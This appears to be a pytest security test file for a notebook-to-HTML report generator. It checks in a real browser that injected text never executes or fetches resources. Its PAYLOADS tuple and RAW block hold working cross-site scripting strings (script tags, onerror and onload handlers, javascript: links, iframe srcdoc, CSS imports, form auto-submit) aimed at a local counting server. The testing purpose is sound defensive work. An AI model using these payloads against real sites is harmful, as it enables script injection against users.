"""Hostile text by every route into the page: it stays text, for a real browser too.

The routes are those by which nbconvert lets a notebook's text reach a page, whether our own code uses them
or an analyst's cell may; then every text column of every ledger, and what the office writes itself.
"""

import html
import re
import threading
from collections.abc import Callable, Iterator
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import nbformat
import pandas as pd
import polars as pl
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output
from samples import COMPONENTS, TITLE, Elements, notebook, notebook_of, review_of, spoiled

import years
from gongkai.charts.chart import Plotted
from gongkai.charts.registry import BY_ID
from gongkai.charts.svg import svg
from gongkai.examined.examine import build
from gongkai.records.ledgers import LEDGERS
from gongkai.records.ledgers.ledger import Kind
from gongkai.report.page.contents import PageError
from gongkai.text import clean
from reading import complaints, open_page, requests, unfold

pytestmark = pytest.mark.slow
HOST = "http://127.0.0.1:{port}"
NULL = "\u2400"  # stands for the real one until the ledger is written as Parquet
RUN = "top.pwned=(top.pwned||0)+1"
# {m} is a mark by which the text is found again, {host} a server that counts who asks.
PAYLOADS = (
    f"{{m}}<script>{RUN};fetch('{{host}}/1')</script>",
    f"{{m}}<img src='{{host}}/2' onerror='{RUN}'>",
    f"{{m}}[点](javascript:{RUN}) <a href='javascript:{RUN}'>点</a>",
    "{m}</style></title></script><style>@import url({host}/4);</style>",
    "{m}{{7*7}}{% raw %}{#x#}${7}$",
    f"{{m}}<!-- --!><svg onload='{RUN}'><!--",
    f"{{m}}\u202egnp.exe\u2066 <b onmouseover={RUN}>粗</b>",
    f"{{m}}\x00<scr\x00ipt>{RUN}</scr\x00ipt>\x1b[31m\x0b",
    f"{{m}}\"><iframe srcdoc='<script>{RUN}</script>' src='{{host}}/9'></iframe>",
    f"{{m}}' onfocus='{RUN}' autofocus x=']]><object data={{host}}/10>",
)


def without_policy(page: str) -> str:
    """Return the page as if it had no Content-Security-Policy."""
    changed = re.sub(r"<meta[^>]*Content-Security-Policy[^>]*>", "", page)
    assert changed != page
    return changed


def payload(number: int, mark: str, host: str) -> str:
    return PAYLOADS[number].replace("{m}", mark).replace("{host}", host)


class Repr:
    """An object that shows itself as the markup it was given."""

    def __init__(self, text: str) -> None:
        self.text = text

    def _repr_html_(self) -> str:
        return f"<p>{self.text}</p>"


def out(data: dict[str, Any]) -> list[nbformat.NotebookNode]:
    return [new_code_cell("x", outputs=[new_output("display_data", data=data)])]


def page_html(text: str) -> list[nbformat.NotebookNode]:
    return out({"text/html": text, "text/plain": "x"})


def frame(text: str, **options: Any) -> str:
    return str(pd.DataFrame({"列": [text]}).to_html(**options))


def chart(text: str) -> str:
    return svg(
        BY_ID["datasets_delivered"], Plotted(("数据集", "已报送"), ((clean(text), 3),), "次")
    )


def tagged(text: str) -> list[nbformat.NotebookNode]:
    return [
        new_markdown_cell("说明", metadata={"tags": [text], "name": text}, attachments={text: {}})
    ]


Route = Callable[[str], list[nbformat.NotebookNode]]
# Each route, and whether a reader sees its text at all: what is not a table, prose or a component is noise.
ROUTES: tuple[tuple[str, bool, Route], ...] = (
    ("R01 表格单元格", True, lambda t: page_html(frame(t))),
    ("R02 表格行名列名", True, lambda t: page_html(pd.DataFrame({t: [1]}, index=[t]).to_html())),
    ("R03 escape=False", True, lambda t: page_html(frame(t, escape=False))),
    ("R04 Styler单元格", True, lambda t: page_html(pd.DataFrame({"列": [t]}).style.to_html())),
    ("R05 Styler标题", True, lambda t: page_html(pd.DataFrame({"列": [1]}).style.set_caption(t).to_html())),
    ("R06 Styler列名", True, lambda t: page_html(pd.DataFrame({t: [1]}).style.to_html())),
    ("R07 Styler转义", True, lambda t: page_html(pd.DataFrame({"列": [t]}).style.format(escape="html").to_html())),
    ("R08 多级列名", True, lambda t: page_html(
        pd.DataFrame([[1]], columns=pd.MultiIndex.from_tuples([(t, "乙")], names=[t, "名"])).to_html())),
    ("R09 formatters", True, lambda t: page_html(frame("x", formatters={"列": lambda _: t}))),
    ("R10 render_links", True, lambda t: page_html(frame(f"http://a.cn/{t}", render_links=True))),
    ("R11 display(HTML)", False, lambda t: page_html(f"<div>{t}</div>")),
    ("R12 display(Markdown)", False, lambda t: out({"text/markdown": t})),
    ("R13 Markdown链接图片", True, lambda t: [new_markdown_cell(f"{t} ![图](http://127.0.0.1:9/a.png) [x](data:text/html,1)")]),
    ("R14 SVG输出", False, lambda t: out({"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'>{t}</svg>"})),
    ("R15 Latex", False, lambda t: out({"text/latex": f"${t}$"})),
    ("R16 Javascript", False, lambda t: out({"application/javascript": t})),
    ("R17 标准输出", False, lambda t: [new_code_cell("x", outputs=[new_output("stream", name="stdout", text=t)])]),
    ("R20 text/plain", False, lambda t: out({"text/plain": t})),
    ("R21 mermaid", False, lambda t: out({"text/vnd.mermaid": t})),
    ("R22 图中标签", True, lambda t: [*notebook(chart_block(svg=chart(t))).cells]),
    ("R24 控件和框架", False, lambda t: out(
        {"application/vnd.jupyter.widget-view+json": {"model_id": t}, "text/html": f"<iframe src='{t}'></iframe>"})),
    ("R25 _repr_html_", False, lambda t: page_html(Repr(t)._repr_html_())),
    ("R26 替代文本", True, lambda t: [*notebook(chart_block(alt=t, title=t, question=t)).cells]),
    ("R27 $公式$", True, lambda t: [new_markdown_cell(f"$x$ {t} $$y$$")]),
    ("R28 Markdown原始标记", True, lambda t: [new_markdown_cell(t)]),
    ("R29 标题", True, lambda t: [new_markdown_cell(f"# {t}".replace("\n", " "))]),
    ("R30 代码", False, lambda t: [new_code_cell(t)]),
    ("R31 报告标题", True, lambda t: [*notebook(*(spoiled(c, t) for c in COMPONENTS[1:])).cells]),
    ("R32 附件", False, tagged),
    ("R33 单元标签", False, tagged),
)  # fmt: skip
STOPPING = ("R18 标准错误", "R19 异常", "R23 图中链接")  # these make no page at all


def chart_block(**changes: str) -> Any:
    (block,) = [c for c in COMPONENTS if type(c).__name__ == "ChartBlock"]
    return replace(block, **changes)


@pytest.fixture(scope="module")
def server() -> Iterator[tuple[str, list[str]]]:
    """Yield the address of a server on this machine, and the paths that it was asked for."""
    asked: list[str] = []

    class Counting(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Counting) as found:
        threading.Thread(target=found.serve_forever, daemon=True).start()
        yield HOST.format(port=found.server_port), asked
        found.shutdown()


def text_of(page: str) -> str:
    """Return what a reader can read, attributes that are read out included."""
    body = re.sub(r"<style>.*?</style>", "", page, flags=re.DOTALL)
    return html.unescape(re.sub(r"<[^>]*>", "", body))


def harmless(browser: Any, page: str, folder: Path, asked: list[str]) -> None:
    """Assert that the page holds no markup of others, and without its policy runs and asks nothing."""
    found = Elements(page)
    assert not {name for name in found.attributes if name.startswith("on")}
    assert not {"script", "img", "iframe", "object", "embed", "base", "form", "input"} & found.tags
    assert page.count("<style") == page.count("</style") == 1
    for name, value in re.findall(r'\b(href|src|srcdoc|action|data)="([^"]*)"', page):
        assert value.startswith(("#", "https://", "http://a.cn")), (name, value)
    path = folder / "page.html"
    path.write_text(without_policy(page), encoding="utf-8")
    open_page(browser, path)
    unfold(browser)
    browser.execute_script("for (const e of document.querySelectorAll('*')) e.focus()")
    assert browser.execute_script("return top.pwned") is None
    assert requests(browser) == []
    assert complaints(browser) == []
    assert asked == []


def test_no_route_of_a_notebook_lets_text_act(browser, server, tmp_path: Path) -> None:
    host, asked = server
    assert len(ROUTES) + len(STOPPING) == 33
    cells, marks = [], {}
    for number in range(len(PAYLOADS)):
        for route, shown, make in ROUTES:
            mark = f"记号{route[:3]}第{number}种"
            cells += make(payload(number, mark, host))
            marks[mark] = shown
    page = review_of(notebook(TITLE, extra=cells))
    harmless(browser, page, tmp_path, asked)
    text = text_of(page)
    assert [mark for mark, shown in marks.items() if (mark in text) != shown] == []
    for number in range(len(PAYLOADS)):  # a component shows the very text
        for route in ("R22", "R26", "R31", "R01"):
            assert clean(payload(number, f"记号{route}第{number}种", host)) in text, (route, number)
    assert re.search(r"记号R31第4种\{\{7\*7\}\}", text)


@pytest.mark.parametrize("number", range(len(PAYLOADS)))
def test_routes_that_tell_of_failure_make_no_page(number: int) -> None:
    text = payload(number, "记号", "http://127.0.0.1:9")
    stderr = new_output("stream", name="stderr", text=text)
    error = new_output("error", ename="E", evalue=text, traceback=[text])
    for output in (stderr, error):
        with pytest.raises(PageError):
            review_of(notebook(TITLE, extra=[new_code_cell("x", outputs=[output])]))
    link = f"<a href='{html.escape(text)}'><text>字</text></a>".replace("\x00", "")
    linked = chart("数据").replace("</svg>", f"{clean(link)}</svg>")
    with pytest.raises(Exception, match="网页没有生成"):
        review_of(notebook(TITLE, chart_block(svg=linked)))


def hostile_year(root: Path, year: int, host: str) -> set[str]:
    """Write a year whose every public text cell is hostile, ten ways a column; return the columns."""
    rows = years.random_year(3, year, most=12)
    columns = set()
    for ledger in LEDGERS:
        if ledger.id != "organisation":
            seed = 0
            while len(rows[ledger.id]) < len(PAYLOADS):
                seed += 1
                rows[ledger.id] = years.random_year(seed, year, most=40)[ledger.id]
        for n, row in enumerate(rows[ledger.id]):
            for column in ledger.in_year(year).columns:
                if column.kind is not Kind.TEXT or column.personal:
                    continue
                mark = f"{ledger.title}{column.heading}{n}"
                row[column.heading] = payload(n % len(PAYLOADS), mark, host).replace("\x00", NULL)
                columns.add(f"{ledger.title}{column.heading}")
    folder = years.write_year(root, year, rows, encoding="utf-8")
    for path in folder.glob(
        "*.csv"
    ):  # a text ledger with null characters is refused; Parquet holds them
        frame = pl.read_csv(path, infer_schema=False, encoding="utf8-lossy")
        frame.with_columns(pl.all().str.replace_all(NULL, "\x00")).write_parquet(
            path.with_suffix(".parquet")
        )
        path.unlink()
    name = payload(1, "机关", host)
    null = payload(7, "地址", host).encode("unicode_escape").decode().replace("\\x", "\\u00")
    (root / "x" / "agency.toml").write_text(
        f"code = 'x'\nname = '''{name}'''\nlevel = 'department'\nshort_name = '''{payload(0, '我局', host)}'''\n"
        f'contact = {{ address = "{null}" }}\n'
        f"site = '''{payload(8, '网站', host)}'''\nreport_place = '''{payload(5, '栏目', host)}'''\n",
        encoding="utf-8",
    )
    with (folder / "declarations.toml").open("a", encoding="utf-8") as file:
        file.write(f"[provenance]\nkind = 'made_up'\nnote = '''{payload(3, '说明', host)}'''\n")
    return columns


# A chart of 2018 tells the names of data sets whole; the finding on months without a record, of any
# year, tells the first of them cut short.
@pytest.mark.parametrize(("year", "told"), [(2018, ["数据开放数据集名称"]), (2024, [])])
def test_no_text_column_acts(browser, server, tmp_path: Path, year: int, told: list[str]) -> None:
    host, asked = server
    columns = hostile_year(tmp_path, year, host)
    assert len(columns) > 25
    page = review_of(notebook_of(build("x", year, tmp_path)))
    harmless(browser, page, tmp_path, asked)
    text = text_of(page)
    named = {column for column in columns if f"{column}0" in text}
    assert named == {"数据开放数据集名称"}
    whole = {c for c in named if clean(payload(0, f"{c}0", host)) in text}
    assert whole <= set(told)
    for number in range(len(PAYLOADS)):  # what is told at all is told to the letter
        for column in told:  # some rows are of another year and in no figure
            marks = [f"{column}{n}" for n in range(number, 40, len(PAYLOADS))]
            assert any(clean(payload(number, mark, host)) in text for mark in marks)
    for number, mark in ((1, "机关"), (3, "说明"), (8, "网站"), (5, "栏目")):
        assert clean(payload(number, mark, host)) in text.replace("\u200b", "")


def test_what_the_office_writes_itself_does_not_act(
    browser, server, sample, tmp_path: Path
) -> None:
    host, asked = server
    folder = sample / "hrbrfb" / "2018" / "narrative"
    own = [p.stem for p in folder.glob("*.md")] + ["overview", "requests", "safeguards"]
    told = [payload(n, f"本机关第{'一二三四五六七八九十'[n]}段", host) for n in range(10) if n != 4]
    assert any("\x00" in words for words in told)
    for section in own:
        text = "\n\n".join([*told, *(f"- {t}" for t in told), *(f"# {t}" for t in told)])
        (folder / f"{section}.md").write_text(text, encoding="utf-8")
    page = review_of(notebook_of(build("hrbrfb", 2018, sample)))
    harmless(browser, page, tmp_path, asked)
    text = text_of(page)
    for words in told:
        assert text.count(words.partition("段")[0]) >= 3 * len(set(own))
    assert "<script>" in text
    assert "onfocus" in text
    for words in told:
        assert clean(words).replace("\n", "") in text.replace("\n", "") or "](" in words
    (folder / "overview.md").write_text(payload(4, "段", host), encoding="utf-8")
    report = build("hrbrfb", 2018, sample)  # a template, and one that cannot be read
    assert any("overview" in finding.place.file for finding in report.findings)
    assert report.blocking
    harmless(browser, review_of(notebook_of(report)), tmp_path, asked)


RAW = """<script>{run};fetch("{host}/a")</script><img src="{host}/b" onerror="{run}"><svg onload="{run}"></svg>
<iframe src="{host}/c"></iframe><iframe srcdoc="<script>{run};fetch('{host}/d')</script>"></iframe>
<link rel="stylesheet" href="{host}/e"><style>@import url({host}/f);body{{background:url({host}/g)}}</style>
<object data="{host}/h"></object><embed src="{host}/i"><script src="{host}/j"></script>
<p style="background:url({host}/k)">x</p><video src="{host}/l" autoplay></video>
<link rel="preload" as="fetch" href="{host}/m"><base href="{host}/n/"><img src="o.png">
<form action="{host}/p" id="f"><input name="q"></form><script>document.forms.f.submit()</script>"""


@pytest.mark.parametrize("policy", [True, False])
def test_the_policy_alone_stops_what_is_raw(browser, server, page, tmp_path, policy: bool) -> None:
    host, asked = server
    asked.clear()
    raw = RAW.format(host=host, run=RUN)
    path = tmp_path / "raw.html"
    hostile = page.replace("</main>", f"{raw}</main>")
    path.write_text(hostile if policy else without_policy(hostile), encoding="utf-8")
    open_page(browser, path)
    browser.execute_async_script("setTimeout(arguments[0], 500)")
    if policy:
        assert asked == []
        assert browser.execute_script("return top.pwned") is None
    else:  # without it, the same page does run and does ask
        assert len(set(asked)) >= 5
    asked.clear()
